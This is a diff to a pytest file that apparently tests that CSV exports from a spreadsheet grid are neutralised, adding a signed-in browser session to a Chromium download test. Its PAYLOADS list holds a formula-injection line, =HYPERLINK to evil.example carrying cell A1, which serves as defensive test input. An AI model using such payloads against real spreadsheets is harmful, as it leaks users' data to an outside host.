@@ -24,6 +24,7 @@ import pytest
 
 from medtower.spreadsheet import csv_text, safe_cell, safe_frame, text_only_workbook
 from tests.chromium import CHROMIUM, CHROMIUM_ARGS, need_chromium
+from tests.signin import add_user, signed_in_page
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -121,6 +122,7 @@ def test_grid_csv_download_in_chromium_is_neutralised(tmp_path: Path) -> None:
     from playwright.sync_api import sync_playwright
 
     root = Path(__file__).resolve().parents[2]
+    add_user(tmp_path / "data")
     port = _free_port()
     log = open(tmp_path / "app.log", "wb")  # noqa: SIM115 - closed below
     proc = subprocess.Popen(
@@ -143,7 +145,7 @@ def test_grid_csv_download_in_chromium_is_neutralised(tmp_path: Path) -> None:
         with sync_playwright() as pw:
             browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
             try:
-                page = browser.new_page(accept_downloads=True)
+                page = signed_in_page(browser, f"http://127.0.0.1:{port}", accept_downloads=True)
                 page.goto(f"http://127.0.0.1:{port}/probe")
                 page.wait_for_selector(".ag-row", timeout=30_000)
                 with page.expect_download(timeout=30_000) as info:
